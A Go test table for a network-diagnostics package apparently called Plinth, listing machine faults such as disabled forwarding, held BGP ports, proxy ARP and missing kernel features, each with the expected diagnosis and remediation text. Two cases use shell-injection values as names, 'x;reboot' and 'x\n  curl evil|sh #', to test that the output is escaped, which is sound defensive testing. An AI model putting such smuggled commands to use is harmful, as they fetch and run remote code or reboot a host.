package machine

import (
	"fmt"
	"net/netip"
	"slices"
)

// troubles are ways in which the healthy machine can be in trouble, with the kinds that are found then, and a part of what is printed. Those
// with no kind are not to be taken for one.
var troubles = []struct {
	name string
	make func(*Facts)
	want string
	says string
}{
	{"a kernel that forwards nothing", func(f *Facts) { f.setting("net/ipv4/ip_forward", "0", "1") }, "ForwardingOff", "sysctl -w net.ipv4.ip_forward=1\n    echo net.ipv4.ip_forward=1 >/etc/sysctl.d/99-zz-plinth-net.ipv4.ip_forward.conf\n"},
	{"an interface that does not forward", func(f *Facts) { f.setting("net/ipv4/conf/eth0/forwarding", "0", "1") }, "ForwardingOff", "sysctl -w net.ipv4.conf.eth0.forwarding=1"},
	{"nothing of IPv6", func(f *Facts) { f.setting("net/ipv6/conf/all/forwarding", "0", "1") }, "ForwardingOff", "net.ipv6.conf.all.forwarding=1"},
	{"a strict rp_filter on a VLAN", func(f *Facts) {
		f.setting("net/ipv4/conf/eth0.100/rp_filter", "1", "2")
		f.Expected.Sessions = append(f.Expected.Sessions, Session{Router: "tor2"})
	}, "ReversePathStrict", "sysctl -w net/ipv4/conf/eth0.100/rp_filter=2\n    echo net/ipv4/conf/eth0.100/rp_filter=2 >/etc/sysctl.d/99-zz-plinth-net-ipv4-conf-eth0.100-rp_filter.conf\n"},
	{"a setting of another file", func(f *Facts) {
		f.setting("net/ipv4/ip_forward", "0", "1")
		f.SysctlFiles = map[string][]string{"net/ipv4/ip_forward": {"/etc/sysctl.conf"}}
	}, "ForwardingOff", "and take it out of /etc/sysctl.conf, where it is set, too"},
	{"a setting that is seen in a container", func(f *Facts) { f.Container = true; f.setting("net/ipv4/ip_forward", "0", "1") }, "ForwardingOff", "    on the host: sysctl -w net.ipv4.ip_forward=1, and for"},
	{"a cable that is seen in a container", func(f *Facts) { f.Container, f.Addresses[0].Carrier = true, false }, "LinkDown", "    on the host: ip -brief link show eth0"},
	{"router advertisements that are ignored", func(f *Facts) { f.setting("net/ipv6/conf/eth0/accept_ra", "1", "2") }, "AdvertisementsIgnored", "accept_ra=2"},
	{"one router of two", func(f *Facts) { f.setting("net/ipv4/fib_multipath_hash_policy", "0", "1") }, "HashByAddress", "fib_multipath_hash_policy=1"},
	{"IPv6 that is off", func(f *Facts) { f.Sysctls["net/ipv6/conf/eth0/disable_ipv6"] = "1" }, "IPv6Disabled", "sysctl -w net.ipv6.conf.eth0.disable_ipv6=0"},
	{"gratuitous ARP that is dropped", func(f *Facts) { f.Sysctls["net/ipv4/conf/eth0/drop_gratuitous_arp"] = "1" }, "AnnouncementsDropped", "sysctl -w net.ipv4.conf.eth0.drop_gratuitous_arp=0"},
	{"advertisements that are dropped", func(f *Facts) { f.Sysctls["net/ipv6/conf/eth0/drop_unsolicited_na"] = "1" }, "AnnouncementsDropped", "drop_unsolicited_na=0"},
	{"a table of neighbours that is small", func(f *Facts) { f.Expected.Neighbours = 900 }, "NeighbourTableSmall NeighbourTableSmall", "sysctl -w net.ipv4.neigh.default.gc_thresh3=4096\n"},
	{"connections", func(f *Facts) { f.Sysctls[conntrackCount] = "250000" }, "ConntrackNearlyFull", "echo nf_conntrack >/etc/modules-load.d/plinth-nf_conntrack.conf"},
	{"the port of the controller", func(f *Facts) { f.Sockets[1].Program = "hcloud-cloud-controller-manager" }, "PortHeld", "hcloud-cloud-controller-manager (process 4711) listens on port TCP 10258, which is for the controller, if that runs here"},
	{"the controller that k3s has", func(f *Facts) { f.Sockets[1].Program = "k3s" }, "PortHeld", "docs/guides/distributions.md#k3s"},
	{"the port of the agent", func(f *Facts) { f.Sockets[0] = socket("TCP", "[::]:10268", "", "exporter") }, "PortHeld", "TCP 10268, which is for the agent"},
	{"the port of BFD", func(f *Facts) { f.Sockets[3].Program = "bfdd" }, "PortHeld", "UDP 3784, which is for BFD"},
	{"another session", func(f *Facts) { f.Sockets[2].Program = "bgpd" }, "SessionHeldByOther", "with router tor, 192.168.1.1"},
	{"a session that the router began", func(f *Facts) {
		f.Sockets[2] = socket("TCP", "192.168.1.11:179", "192.168.1.1:50000", "bird")
		f.Sockets = append(f.Sockets, socket("TCP", "0.0.0.0:179", "", "bird"))
	}, "SessionHeldByOther", "take its session out of the configuration of bird"},
	{"no such address", func(f *Facts) { f.lose(func(a Address) bool { return a.Prefix.Addr().String() == "192.168.1.11" }) }, "MachineAddressMissing", "no interface has its address 192.168.1.11"},
	{"its address elsewhere", func(f *Facts) { f.answer("192.168.1.11", true) }, "MachineAddressTaken", "02:00:00:00:00:aa"},
	{"a cable", func(f *Facts) { f.Addresses[0].Carrier = false }, "LinkDown", "ip -brief link show eth0"},
	{"an interface that is down", func(f *Facts) { f.Addresses[0].Up, f.Addresses[0].Carrier = false, false }, "LinkDown", "ip link set dev eth0 up\n"},
	{"a kernel without IPv6", func(f *Facts) { f.Missing = []string{IPv6}; f.lose(isIPv6) }, "IPv6Missing", "ipv6.disable=1"},
	{"a kernel without packet sockets", func(f *Facts) { f.Missing = []string{PacketSockets} }, "PacketSocketsMissing", "modprobe af_packet\n    echo af_packet >/etc/modules-load.d/plinth-af_packet.conf"},
	{"WireGuard on a link", func(f *Facts) {
		f.Unusable = []UnusableLink{{netip.MustParsePrefix("192.168.1.0/24"), "wg0 is not an Ethernet interface"}}
	}, "LinkUnusable", "nobody can answer for VIPs of 192.168.1.0/24 on this machine: wg0 is not an Ethernet interface"},
	{"a kernel without signatures", func(f *Facts) { f.Missing, f.Expected.Sessions[0].Password = []string{TCPMD5}, true }, "TCPMD5Missing", "CONFIG_TCP_MD5SIG"},
	{"a kernel without VXLAN", func(f *Facts) { f.Missing, f.Expected.Mode = []string{VXLAN}, "overlay" }, "VXLANMissing", "modules-extra"},
	{"an old kernel", func(f *Facts) { f.Kernel, f.Expected.Mode = "5.1-rc1", "fabric"; f.router(0).linkLocal() }, "KernelTooOld", "Linux 5.1-rc1 takes no route"},
	{"a VIP that is left", func(f *Facts) { f.Addresses = append(f.Addresses, on("lo", "203.0.113.9/32")) }, "VIPOnInterface", "by docs/guides/migrate-on-link.md, so that connections outlast it; then ip address del 203.0.113.9/32 dev lo takes away"},
	{"a VIP of kube-vip", func(f *Facts) {
		f.Addresses = append(f.Addresses, on("eth0", "192.168.1.200/32"))
		f.Programs = []string{"bird", "kube-vip"}
	}, "VIPOnInterface", "take over from it (kube-vip runs here) by docs/guides/migrate-on-link.md"},
	{"a VIP with its subnet", func(f *Facts) { f.Addresses = append(f.Addresses, on("eth1", "fd01::2aa/64")) }, "VIPOnInterface", "put fd01::2aa into exclude of pool lan6"},
	{"a name that a shell would read otherwise", func(f *Facts) { f.Addresses = append(f.Addresses, on("x;reboot", "203.0.113.9/32")) }, "VIPOnInterface", "dev 'x;reboot' takes"},
	{"ipvs without strictARP", func(f *Facts) { f.Sysctls[arpIgnore] = "0" }, "IPVSAnswers", "sysctl -w net.ipv4.conf.all.arp_ignore=1\n"},
	{"a host that has an address of a pool", func(f *Facts) { f.answer("192.168.1.202", false) }, "PoolAddressAnswered", "put 192.168.1.202 into exclude of pool lan"},
	{"a switch that answers for all", func(f *Facts) {
		f.Asked[0].Addresses = 3
		for _, a := range []string{"192.168.1.11", "192.168.1.203", "192.168.1.204", "192.168.1.205"} {
			f.answer(a, false)
		}
	}, "ProxyARP", "02:00:00:00:00:aa answers on eth0 for one address of pools after the other, such as 192.168.1.11"},
	{"a router that answers for others", func(f *Facts) {
		f.Asked[0].Addresses = 64
		f.Routers[0].MAC = "02:00:00:00:00:aa"
		f.answer("192.168.1.203", false)
		f.answer("192.168.1.204", false)
	}, "ProxyARP", "as proxy ARP does"},
	{"a host that answers late for many", func(f *Facts) {
		f.Asked[0].Addresses = 64
		for last := range 8 {
			f.answer(fmt.Sprintf("192.168.1.%d", 203+last), false)
		}
	}, "ProxyARP", "such as 192.168.1.203"},
	{"a host with three of many addresses", func(f *Facts) {
		f.Asked[0].Addresses = 64
		f.answer("192.168.1.203", false)
		f.answer("192.168.1.204", false)
		f.answer("192.168.1.205", false)
	}, "PoolAddressAnswered PoolAddressAnswered PoolAddressAnswered", "192.168.1.204 of pool lan"},
	{"no route", func(f *Facts) { f.router(0).r.Device, f.router(0).r.Asked = "", false }, "RouterUnreachable", "ip route get 192.168.1.1 from 192.168.1.11\n"},
	{"another way", func(f *Facts) { f.router(0).r.Device = "eth1" }, "RouterElsewhere", "leaves by eth1, and the interface in its subnet is eth0"},
	{"a router behind another one", func(f *Facts) { f.router(0).behind("192.168.1.254") }, "RouterNotAdjacent", "plinth router-config tor"},
	{"a router that is off", func(f *Facts) { f.router(1).r.MAC, f.router(1).r.Connect = "", Silent }, "RouterNotAnswering", "ip neighbour show fd01::1\n"},
	{"a router without BGP", func(f *Facts) { f.router(0).r.Connect = Refused }, "RouterRefuses", "plinth router-config tor prints, which has 192.168.1.11"},
	{"a filter", func(f *Facts) { f.router(1).r.Connect = Silent }, "RouterFiltered", "[fd01::1]:179"},
	{"a dummy of kube-router without strictARP", func(f *Facts) {
		f.lose(func(a Address) bool { return a.Interface == "kube-ipvs0" })
		f.Addresses = append(f.Addresses, on("kube-dummy-if", "192.168.1.201/32"))
		f.Sysctls[arpIgnore] = "0"
	}, "IPVSAnswers", "kube-proxy-arg: [ipvs-strict-arp=true]"},
	{"a program whose name would be a command", func(f *Facts) { f.Sockets[1].Program = "x\n  curl evil|sh #" }, "PortHeld", "have x\ufffd  curl evil|sh # (process 4711) listen"},
	{"a clock that nobody keeps", func(f *Facts) { f.Unsynchronized = true }, "ClockUnsynchronized", "timedatectl set-ntp true"},

	{"an excluded address", func(f *Facts) {
		f.answer("192.168.1.219", false)
		f.Addresses = append(f.Addresses, on("eth0", "192.168.1.219/24"))
	}, "", ""},
	{"a session over several hops", func(f *Facts) { f.router(0).behind("192.168.1.254"); f.router(0).s.Hops = 2; f.Sockets = f.Sockets[:4] }, "", ""},
	{"a session within an ASN", func(f *Facts) { f.router(0).behind("192.168.1.254"); f.router(0).s.External = false }, "", ""},
	{"what the kernel lacks and nobody needs", func(f *Facts) { f.Missing = []string{TCPMD5, VXLAN} }, "", ""},
	{"a clock that is being set", func(f *Facts) { f.Unsynchronized, f.Programs = true, []string{"chronyd"} }, "", ""},
	{"kube-dummy-if with a VIP", func(f *Facts) { f.Addresses = append(f.Addresses, on("kube-dummy-if", "192.168.1.201/32")) }, "", ""},
	{"a session of another address of the machine", func(f *Facts) {
		f.Sockets[2] = socket("TCP", "192.168.1.99:40000", "192.168.1.1:179", "bird")
	}, "", ""},
	{"a speaker that only listens", func(f *Facts) { f.Sockets = append(f.Sockets, socket("TCP", "0.0.0.0:179", "", "bird")) }, "", ""},
	{"ports on addresses that Plinth has not", func(f *Facts) {
		f.Sockets = append(f.Sockets, socket("TCP", "192.168.1.11:10258", "", "exporter"), socket("UDP", "127.0.0.1:3784", "", "bfdd"))
	}, "", ""},
	{"a strict rp_filter of the only interface", func(f *Facts) { f.setting("net/ipv4/conf/eth0/rp_filter", "1", "2") }, "", ""},
	{"IPv6 that is off on a machine that has none", func(f *Facts) {
		f.Expected.Addresses = slices.DeleteFunc(f.Expected.Addresses, netip.Addr.Is6)
		f.Expected.Links = slices.DeleteFunc(f.Expected.Links, func(l Link) bool { return l.Subnet.Addr().Is6() })
		f.lose(isIPv6)
		f.Sysctls["net/ipv6/conf/eth0/disable_ipv6"], f.Missing = "1", []string{IPv6}
	}, "", ""},
	{"kube-ipvs0 with a VIP", func(f *Facts) { f.Addresses = append(f.Addresses, on("kube-ipvs0", "192.168.1.201/32")) }, "", ""},
	{"programs that are not known", func(f *Facts) {
		for i := range f.Sockets {
			f.Sockets[i].Program, f.Sockets[i].PID = "", 0
		}
	}, "", ""},
	{"a speaker with other routers, that listens nowhere", func(f *Facts) {
		f.Sockets = append(f.Sockets, socket("TCP", "192.168.1.11:40001", "192.168.1.2:179", "bird"))
	}, "", ""},
	{"a port of BFD that nothing needs", func(f *Facts) {
		f.Sockets[3].Program, f.Expected.Links = "bfdd", nil
		f.router(0).s.BFD, f.router(1).s.BFD = false, false
	}, "", ""},
}
